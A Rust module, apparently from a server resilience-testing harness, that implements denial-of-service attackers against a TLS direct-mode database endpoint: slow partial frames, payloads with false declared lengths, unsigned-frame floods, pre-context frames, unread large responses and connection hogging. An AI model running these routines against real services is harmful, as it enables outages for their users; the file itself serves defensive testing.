//! Attacks in direct mode: frames over TLS.

use std::io;
use std::slice;
use std::sync::Arc;
use std::time::Duration;

use bolide_rntbd::frame::LENGTH_BYTES;
use futures_util::FutureExt as _;
use futures_util::future::BoxFuture;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::sync::Semaphore;
use tokio::time::{sleep, timeout};

use super::{Attack, ITEM, LARGE_QUERY, PAUSE, ResponseCounts, TIMEOUT, Target, note};
use crate::cosmos::Requests;
use crate::direct::channel::Channel;
use crate::direct::endpoint::{Endpoint, Tls};
use crate::direct::frames::{Frame, Frames, Signature};
use crate::{Result, item};

/// Channels that are opened at the same time in [`Attack::Channels`]: handshakes cost the client as much as the server.
const OPENED_AT_ONCE: usize = 64;
/// Time between two bytes of a slow frame.
const BYTE_TIME: Duration = Duration::from_millis(100);
/// The length that payloads declare of which [`item::BYTES`] come.
const DECLARED_BYTES: u32 = 2_000_000;
/// Frames under way on a channel without a key.
const AT_ONCE: usize = 16;
/// Frames on a channel that is not read.
const UNREAD: usize = 64;
/// One of so many attackers without a key sends frames before the context, on new connections.
const EARLY_ONE_IN: usize = 4;

/// What the attackers send.
pub struct Kit {
    endpoint: Arc<Endpoint>,
    opening: Arc<Semaphore>,
    /// A read without its end.
    cut: Arc<Vec<u8>>,
    /// A create with a payload that is shorter than it says.
    lying: Arc<Vec<u8>>,
    /// Reads and creates, unsigned and wrongly signed.
    keyless: Arc<Vec<Frame>>,
    /// What comes before the context.
    early: Arc<Vec<Vec<u8>>>,
    large: Arc<Frame>,
}

impl Kit {
    /// Frames dated now.
    pub fn new(target: &Target) -> Result<Kit> {
        let frames = |requests| Frames::new(requests, target.known.clone());
        let keyed = || frames(Requests::to(target.address));
        let keyless: Vec<Frame> = [keyed()?.signed(Signature::Missing), keyed()?.signed(Signature::Wrong)]
            .iter()
            .flat_map(|frames| [frames.read(ITEM), frames.create("keyless")])
            .collect();
        let read = bytes(&keyed()?.read(ITEM));
        Ok(Kit {
            endpoint: target.endpoint.clone(),
            opening: Arc::new(Semaphore::new(OPENED_AT_ONCE)),
            cut: Arc::new(read[..read.len() - 1].to_vec()),
            lying: Arc::new(lying(&keyed()?.create("lying"))),
            keyless: Arc::new(keyless),
            early: Arc::new(vec![of_context(&read), read]),
            large: Arc::new(frames(Requests::to(target.address).read_only())?.query(LARGE_QUERY, ITEM)),
        })
    }

    /// The n-th attacker.
    pub fn attacker(&self, attack: Attack, number: usize, responses: ResponseCounts) -> BoxFuture<'static, ()> {
        let endpoint = self.endpoint.clone();
        match attack {
            Attack::SlowFrames if number.is_multiple_of(2) => {
                send_slowly(endpoint, self.cut.clone(), responses).boxed()
            }
            Attack::SlowFrames => send_part(endpoint, self.lying.clone(), responses).boxed(),
            Attack::FramesWithoutKey if number.is_multiple_of(EARLY_ONE_IN) => {
                send_early(endpoint, self.early.clone(), responses).boxed()
            }
            Attack::FramesWithoutKey => repeat(endpoint, self.keyless.clone(), responses).boxed(),
            Attack::UnreadFrames => leave_unread(endpoint, self.large.clone(), responses).boxed(),
            _ => stay(endpoint, self.opening.clone(), responses).boxed(),
        }
    }
}

fn bytes(frame: &Frame) -> Vec<u8> {
    let mut bytes = Vec::new();
    frame.write(1, &mut bytes);
    bytes
}

/// A create that declares a longer payload.
fn lying(create: &Frame) -> Vec<u8> {
    let mut bytes = bytes(create);
    let length_at = bytes.len() - item::BYTES - LENGTH_BYTES;
    bytes[length_at..][..LENGTH_BYTES].copy_from_slice(&DECLARED_BYTES.to_le_bytes());
    bytes
}

/// A frame whose types are those of the context, and whose tokens are not.
fn of_context(frame: &[u8]) -> Vec<u8> {
    let mut bytes = frame.to_vec();
    bytes[LENGTH_BYTES..][..4].fill(0);
    bytes
}

/// Opens a channel; `None`, after a pause, if that fails.
async fn open(endpoint: &Endpoint, responses: &ResponseCounts) -> Option<Channel> {
    if let Ok(Ok(channel)) = timeout(TIMEOUT, Channel::open(endpoint)).await {
        return Some(channel);
    }
    note(responses, "no channel");
    sleep(PAUSE).await;
    None
}

/// Reads until the server ends the connection.
async fn until_ended(stream: &mut Tls) {
    while matches!(stream.read(&mut [0; 256]).await, Ok(1..)) {}
}

async fn send(stream: &mut Tls, bytes: &[u8]) -> io::Result<()> {
    stream.write_all(bytes).await?;
    stream.flush().await
}

/// Opens a channel, sends nothing more, and opens another one when the server ends it.
async fn stay(endpoint: Arc<Endpoint>, opening: Arc<Semaphore>, responses: ResponseCounts) {
    loop {
        let turn = opening.acquire().await;
        let channel = open(&endpoint, &responses).await;
        drop(turn);
        let Some(channel) = channel else { continue };
        note(&responses, "opened");
        until_ended(&mut channel.into_stream()).await;
        note(&responses, "sent away");
        sleep(PAUSE).await;
    }
}

/// Sends a frame without its end, byte by byte.
async fn send_slowly(endpoint: Arc<Endpoint>, frame: Arc<Vec<u8>>, responses: ResponseCounts) {
    loop {
        let Some(channel) = open(&endpoint, &responses).await else {
            continue;
        };
        let mut stream = channel.into_stream();
        for byte in frame.iter() {
            let is_sent = send(&mut stream, slice::from_ref(byte)).await.is_ok();
            // Nothing comes before the end of the connection.
            if !is_sent || timeout(BYTE_TIME, stream.read(&mut [0])).await.is_ok() {
                break;
            }
        }
        until_ended(&mut stream).await;
        note(&responses, "head refused");
        sleep(PAUSE).await;
    }
}

/// Sends a part of a frame, and waits for the end of the connection.
async fn send_part(endpoint: Arc<Endpoint>, frame: Arc<Vec<u8>>, responses: ResponseCounts) {
    loop {
        let Some(channel) = open(&endpoint, &responses).await else {
            continue;
        };
        let mut stream = channel.into_stream();
        if send(&mut stream, &frame).await.is_ok() {
            until_ended(&mut stream).await;
        }
        note(&responses, "payload refused");
        sleep(PAUSE).await;
    }
}

/// Sends frames in turn, always [`AT_ONCE`], as fast as responses come.
async fn repeat(endpoint: Arc<Endpoint>, frames: Arc<Vec<Frame>>, responses: ResponseCounts) {
    loop {
        let Some(mut channel) = open(&endpoint, &responses).await else {
            continue;
        };
        let asked = ask(&mut channel, &frames, &responses).await;
        note(&responses, if asked.is_ok() { "left" } else { "ended" });
        sleep(PAUSE).await;
    }
}

/// Until no response comes in time; an error when the connection ends.
async fn ask(channel: &mut Channel, frames: &[Frame], responses: &ResponseCounts) -> Result<()> {
    for (number, frame) in frames.iter().cycle().enumerate() {
        channel.write(frame).await?;
        if number + 1 < AT_ONCE {
            continue;
        }
        channel.flush().await?;
        let Ok(answer) = timeout(TIMEOUT, channel.receive()).await else {
            return Ok(());
        };
        note(responses, answer?.head.status().to_string());
    }
    Ok(())
}

/// Sends frames without a context, each on its own connection.
async fn send_early(endpoint: Arc<Endpoint>, frames: Arc<Vec<Vec<u8>>>, responses: ResponseCounts) {
    for frame in frames.iter().cycle() {
        let sent = async {
            let mut stream = endpoint.connect().await?;
            send(&mut stream, frame).await?;
            until_ended(&mut stream).await;
            Result::Ok(())
        };
        let outcome = match timeout(TIMEOUT, sent).await {
            Ok(Ok(())) => "refused before the context",
            Ok(Err(_)) => "no channel",
            Err(_) => "left before the context",
        };
        note(&responses, outcome);
        sleep(PAUSE).await;
    }
}

/// Asks for large responses, and reads none.
async fn leave_unread(endpoint: Arc<Endpoint>, frame: Arc<Frame>, responses: ResponseCounts) {
    loop {
        let Some(mut channel) = open(&endpoint, &responses).await else {
            continue;
        };
        let sent = async {
            for _ in 0..UNREAD {
                channel.write(&frame).await?;
            }
            channel.flush().await
        };
        let outcome = match timeout(TIMEOUT, sent).await {
            Ok(Ok(())) => "left unread",
            Ok(Err(_)) => "ended",
            Err(_) => "not taken",
        };
        note(&responses, outcome);
        sleep(TIMEOUT).await;
    }
}
